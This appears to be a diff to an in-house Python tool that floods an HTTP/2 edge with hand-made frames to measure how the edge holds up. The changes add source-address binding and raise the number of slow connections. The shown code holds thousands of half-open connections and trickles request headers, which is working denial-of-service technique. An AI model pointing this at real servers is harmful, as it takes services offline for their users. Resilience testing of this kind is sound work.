@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
 """What an attacker does to the edge, in HTTP/2 frames made by hand.
 
-    abuse.py KIND HOST PORT SECONDS [CERTIFICATE KEY]
+    abuse.py KIND FROM HOST PORT SECONDS [CERTIFICATE KEY]
 
-Goes on for so long and prints what it came to as JSON: connections made, frames sent, how often the edge closed one.
+Comes from the address FROM of this machine, goes on for so long and prints what it came to as JSON: connections made, frames sent, how often the edge closed one.
 """
 import contextlib
 import json
@@ -18,7 +18,7 @@ PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
 HEADERS, RESET, SETTINGS, CONTINUATION = 1, 3, 4, 9
 END_STREAM, END_HEADERS = 1, 4
 CONNECTIONS = 10000
-SLOW = 300
+SLOW = 1000
 
 
 def frame(kind, flags, stream, payload=b''):
@@ -38,8 +38,8 @@ REQUEST = b''.join(header(n, v) for n, v in ((b':method', b'POST'), (b':scheme',
 
 
 class Attack:
-    def __init__(self, host, port, seconds, cert=None, key=None):
-        self.host, self.port, self.end = host, int(port), time.monotonic() + float(seconds)
+    def __init__(self, source, host, port, seconds, cert=None, key=None):
+        self.source, self.host, self.port, self.end = (source, 0), host, int(port), time.monotonic() + float(seconds)
         self.context = ssl.create_default_context()
         self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
         self.context.set_alpn_protocols(['h2'])
@@ -51,7 +51,7 @@ class Attack:
         return time.monotonic() < self.end
 
     def connect(self):
-        connection = self.context.wrap_socket(socket.create_connection((self.host, self.port), timeout=5))
+        connection = self.context.wrap_socket(socket.create_connection((self.host, self.port), timeout=5, source_address=self.source))
         connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
         self.counts['connections'] += 1
         return connection
@@ -113,6 +113,7 @@ class Attack:
             if len(held) < CONNECTIONS:
                 connection = socket.socket()
                 connection.setblocking(False)
+                connection.bind(self.source)
                 with contextlib.suppress(BlockingIOError):
                     connection.connect((self.host, self.port))
                 held.append(connection)
@@ -123,11 +124,12 @@ class Attack:
             else:
                 time.sleep(0.1)
         self.counts['closed'] = len(poll.poll(0))
+        self.counts['left'] = CONNECTIONS - self.counts['closed']
 
     def slow_headers(self):
         """Many connections that send a byte of their first request each second."""
         held, request = [], frame(HEADERS, END_STREAM | END_HEADERS, 1, REQUEST)
-        while len(held) < SLOW and self.going():
+        for _ in range(SLOW):
             try:
                 held.append(self.connect())
             except OSError:
